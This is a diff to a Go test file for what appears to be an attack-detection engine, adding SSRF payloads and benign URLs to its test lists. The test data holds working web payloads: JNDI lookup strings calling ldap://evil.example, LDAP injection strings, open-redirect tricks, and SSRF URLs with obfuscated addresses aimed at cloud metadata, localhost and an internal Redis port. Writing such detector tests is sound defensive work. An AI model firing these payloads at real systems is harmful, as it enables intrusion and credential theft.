@@ -15,6 +15,11 @@ func targetAttacks() map[string][]string {
 	for _, d := range []string{"${::-", "${x:-", "${env:NaN:-"} {
 		m["jndi"] = append(m["jndi"], "${j"+d+"n}d"+d+"i}:ldap://evil.example/a}")
 	}
+	// SSRF by what URL parsers read: an IPv4 number too large for 32
+	// bits, a special scheme without its slashes and an IP in an
+	// inet_aton spelling, a blank before the '@' of the user-info, a
+	// link-local zone.
+	m["ssrf"] = []string{"http://7147006462/", "http://0x41414141A9FEA9FE/", "http:2852039166", "http:/0xA9FEA9FE/latest/meta-data/", "http:0251.0376.0251.0376", "https:017700000001/admin", "http://example.com:80 &@10.0.0.5:6379/", "http://a.example\t@127.0.0.1/", "http://[fe80::1%eth0]/"}
 	m["ldap"] = []string{"*()|&'", "(uid=*)", "x)(|(uid=*", "*)(&(objectClass=*)", "admin)(!(&(1=0", "x))(|(&(cn=*"}
 	return m
 }
@@ -30,7 +35,8 @@ var targetBenignPaths = []string{"/static/app.bak.js", "/actuator/health", "/sit
 var redirectTargets = cross("", []string{"//trusted.example@", "/%2e%2e//", "@", "//evil%E3%80%82"}, []string{"evil.example"})
 var redirectBenign = []string{"https://app.example.com/callback", "/dashboard", "//www.example.com/path", "@john", "/./settings"}
 var ssrfTargets = cross("", []string{"http://"}, []string{"127.0.0.1.nip.io", "db.local", "redis:6379", "[64:ff9b::127.0.0.1]", "evil.example#@127.0.0.1", "foo@127.0.0.1:80@evil.example"}, []string{"/"})
-var ssrfBenign = []string{"https://hooks.slack.com/services/T0/B0/X", "s3://bucket/key", "https://www.milan.example/", "https://192.0.2.10/"}
+var ssrfBenign = []string{"https://hooks.slack.com/services/T0/B0/X", "s3://bucket/key", "https://www.milan.example/", "https://192.0.2.10/",
+	"https://cdn.example.com/12345678901/img.png", "https://api.example.com/v1/items?id=12345678901", "https://example.com/search?q=a @b", "https://social.example/@alice", "http://[2001:db8::1]/"}
 
 func TestGrammarTargetAttacks(t *testing.T) {
 	eng, err := New(Config{})
